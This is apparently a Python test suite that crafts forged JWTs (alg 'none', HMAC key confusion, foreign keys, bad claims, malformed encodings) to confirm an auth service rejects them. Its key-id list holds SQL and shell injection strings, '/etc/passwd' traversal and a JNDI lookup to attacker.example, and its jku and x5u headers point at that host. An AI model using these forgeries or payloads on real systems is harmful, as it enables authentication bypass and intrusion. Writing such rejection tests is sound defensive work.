"""Tokens as attackers craft them, each by the name of what is wrong with it. Whatever it is, the answer is the same."""

import base64
import json
from collections.abc import Iterator
from typing import Any

import jwt
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey

from auth import encoding
from auth.keys import SigningKey
from tests.attacks.forge import Forge
from tests.clocks import NOON

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
NOW = int(NOON.timestamp())

ALGORITHMS = (
    *("none", "None", "NONE", "nOnE", "", "eddsa", "EDDSA", "Ed25519", "ed25519", "EdDSA ", "EdDSA\0", "Ed448"),
    *("HS256", "HS384", "HS512", "ES256", "ES256K", "ES384", "ES512", "RS256", "RS384", "RS512", "PS256", "PS512"),
    *("dir", "A128KW", "RSA-OAEP", "ECDH-ES", None, 5, True, ["EdDSA"], {"alg": "EdDSA"}),
)
KEY_IDS = (
    *("", "x", "unknown", "x" * 43, "x" * 43 + "\n", "x" * 4000, "é" * 43, "\0" * 43, None, 5, True, ["a"], {"a": 1}),
    *("../../../../dev/null", "../ring", "keys/../ring.json", "/etc/passwd", "file:///etc/passwd", "%2e%2e%2fring"),
    *("' OR 1=1 --", "1; DROP TABLE accounts", "$(id)", "`id`", "| id", "{{7*7}}", "${jndi:ldap://attacker.example}"),
)
TYPES: tuple[object, ...] = (
    *("JWT", "jwt", "rt+jwt", "at+JWT", "AT+JWT", "application/at+jwt", "dpop+jwt", "logout+jwt", "", " at+jwt"),
    *(None, 5, [], ["at+jwt"]),
)
HEADER_MEMBERS: tuple[dict[str, Any], ...] = (
    {"jku": "https://attacker.example/jwks.json"},
    {"x5u": "https://attacker.example/key.pem"},
    {"x5c": ["MIIB"]},
    {"x5t": "abc"},
    {"jwk": {"kty": "OKP"}},
    {"crit": ["exp"]},
    {"crit": []},
    {"crit": ["b64"], "b64": False},
    {"b64": False},
    {"zip": "DEF"},
    {"enc": "A128GCM"},
    {"cty": "JWT"},
    {"unheard-of": 1},
)
CLAIMS: tuple[dict[str, Any], ...] = (
    {"iss": "https://attacker.example"},
    {"iss": "HTTP://127.0.0.1:8000"},
    {"iss": "http://127.0.0.1:8000/"},
    {"iss": ["http://127.0.0.1:8000"]},
    {"aud": "another"},
    {"aud": "JAVUMBO"},
    {"aud": ["javumbo"]},
    {"aud": ["javumbo", "another"]},
    {"sub": "2"},
    {"sub": "01"},
    {"sub": 1},
    {"user_id": "1"},
    {"user_id": 2},
    {"user_id": 1.0},
    {"user_id": True},
    {"user_id": 0},
    {"user_id": -1},
    {"user_id": 2**53},
    {"user_id": 10**400},
    {"client_id": "admin"},
    {"client_id": "api:0"},
    {"client_id": "web\n"},
    {"scope": ["account"]},
    {"scope": ""},
    {"scope": "account  account"},
    {"sid": "short"},
    {"sid": "S" * 23},
    {"jti": 5},
    {"jti": None},
)
DATES: tuple[dict[str, Any], ...] = (
    *({"exp": value} for value in (NOW, NOW - 1, 0, -1, 1e300, 10**30, 2**63, 253_402_300_800, None, True, [NOW])),
    *({"exp": value} for value in (str(NOW + 600), NOW + 600.5, float(NOW + 600), "2099-01-01T00:00:00Z")),
    *({"iat": value} for value in (NOW + 61, str(NOW), NOW + 0.5, -1, 2**64, None)),
    *({"nbf": value} for value in (NOW + 61, "now", None, 1e400, -1)),
)
NO_OBJECTS = (
    *(b"", b"[]", b"null", b"1", b'"text"', b"{", b"{}", b"\xff\xfe", b'{"exp":NaN}', b'{"exp":Infinity}'),
    *(b"\xef\xbb\xbf{}", b"[" * 2000, b'{"a":' * 700, b"{}{}", b"{'a':1}", b'{"a":1,}', '{"a":1}'.encode("utf-16")),
)


def crafted(forge: Forge) -> dict[str, str]:
    """Return every token by its name."""
    return {name: token for group in GROUPS for name, token in group(forge)}


def algorithm_confusion(forge: Forge) -> Iterator[tuple[str, str]]:
    for alg in ALGORITHMS:
        yield f"alg {alg!r}", forge.with_header(alg=alg)
    for alg in ("none", "None", "NONE"):  # CVE-2015-9235
        header, payload, _ = forge.with_header(alg=alg).split(".")
        yield f"alg {alg} and no signature", f"{header}.{payload}."
        yield f"alg {alg} and two parts", f"{header}.{payload}"
    public = forge.private.public_key().public_bytes_raw()
    for name, secret in (("raw", public), ("JWK", json.dumps(forge.key.public_jwk()).encode()), ("nothing", b"")):
        for alg in ("HS256", "EdDSA"):  # CVE-2016-5431
            yield f"HMAC under the name {alg} with the public key as {name}", forge.hmac(alg, secret)


def foreign_keys(forge: Forge) -> Iterator[tuple[str, str]]:
    own = SigningKey.generate()
    assert isinstance(own.private, Ed25519PrivateKey)
    payload = encoding.dump_object(forge.payload)
    embedded = {**forge.header, "kid": own.kid, "jwk": own.public_jwk()}  # CVE-2018-0114
    yield "an embedded key", forge.sign(encoding.dump_object(embedded), payload, own.private)
    yield (
        "a key of the attacker's",
        forge.sign(encoding.dump_object({**forge.header, "kid": own.kid}), payload, own.private),
    )
    yield "a key of the attacker's under our id", forge.sign(encoding.dump_object(forge.header), payload, own.private)
    yield "another service's token", jwt.encode(forge.payload, own.private, "EdDSA", headers=forge.header)
    yield "the id of another key of the ring", forge.with_header(kid=forge.other_kid)
    for kid in KEY_IDS:
        yield f"kid {str(kid)[:40]!r} {len(str(kid))}", forge.with_header(kid=kid)


def headers(forge: Forge) -> Iterator[tuple[str, str]]:
    for typ in TYPES:
        yield f"typ {typ!r}", forge.with_header(typ=typ)
    for member in HEADER_MEMBERS:
        yield f"header with {json.dumps(member)}", forge.with_header(**member)
    for name in ("alg", "typ", "kid"):
        rest = {key: value for key, value in forge.header.items() if key != name}
        yield f"header without {name}", forge.token(header=rest)
        yield f"header with {name.upper()} for {name}", forge.token(header={**rest, name.upper(): forge.header[name]})


def claims(forge: Forge) -> Iterator[tuple[str, str]]:
    for name in forge.payload:
        yield f"no claim {name}", forge.token(payload={key: v for key, v in forge.payload.items() if key != name})
    for changed in (*CLAIMS, *DATES):
        yield f"claims {str(changed)[:60]}", forge.with_claims(**changed)
    refresh = {name: forge.payload[name] for name in ("iss", "sub", "sid", "iat", "exp", "jti")} | {"gen": 1}
    yield "a refresh token", forge.token({**forge.header, "typ": "rt+jwt"}, {**refresh, "aud": forge.issuer})
    yield "a refresh token that calls itself an access token", forge.token(payload={**refresh, "aud": forge.issuer})


def documents(forge: Forge) -> Iterator[tuple[str, str]]:
    header, payload = encoding.dump_object(forge.header), encoding.dump_object(forge.payload)
    for data in NO_OBJECTS:
        yield f"payload {data[:12]!r} {len(data)}", forge.sign(header, data)
        yield f"header {data[:12]!r} {len(data)}", forge.sign(data, payload)
    yield "alg named twice", forge.sign(_twice(forge.header, "alg"), payload)
    yield "user_id named twice", forge.sign(header, _twice(forge.payload, "user_id"))
    yield "not UTF-8", forge.sign(header, payload.replace(b"javumbo", b"javumb\xf8"))


def spellings(forge: Forge) -> Iterator[tuple[str, str]]:
    token = forge.token()
    header, payload, signature = token.split(".")
    standard = base64.b64encode(encoding.decode(signature)).decode()
    spare_bits = signature[:-1] + ALPHABET[ALPHABET.index(signature[-1]) | 1]
    flattened = json.dumps({"payload": payload, "protected": header, "signature": signature}).replace(",", ";")
    yield "padding", f"{header}.{payload}.{signature}=="
    yield "padding in the middle", f"{header}=.{payload}.{signature}"
    yield "the standard alphabet", f"{header}.{payload}.{standard}"
    yield "spare bits of the last character", f"{header}.{payload}.{spare_bits}"
    yield "a space inside", f"{header}. {payload}.{signature}"
    yield "a tab inside", f"{header}.{payload[:5]}\t{payload[5:]}.{signature}"
    yield "four parts", f"{token}."
    yield "five parts", f"{header}..{payload}.{signature}.{signature}"
    yield "empty parts", ".."
    yield "no signature", f"{header}.{payload}."
    yield "a signature of zeros", f"{header}.{payload}.{encoding.encode(bytes(64))}"
    yield "a short signature", f"{header}.{payload}.{signature[:-4]}"
    yield "no dots", header
    yield "nothing", ""
    yield "too long", f"{header}.{payload}.{'A' * 4096}"
    yield "as long as may be", f"{header}.{payload}.{'A' * (4096 - len(header) - len(payload) - 2)}"
    yield "JSON serialization", flattened


def _twice(document: dict[str, Any], name: str) -> bytes:
    extra = json.dumps({name: document[name]})[1:-1]
    return f"{json.dumps(document)[:-1]},{extra}}}".encode()


GROUPS = (algorithm_confusion, foreign_keys, headers, claims, documents, spellings)
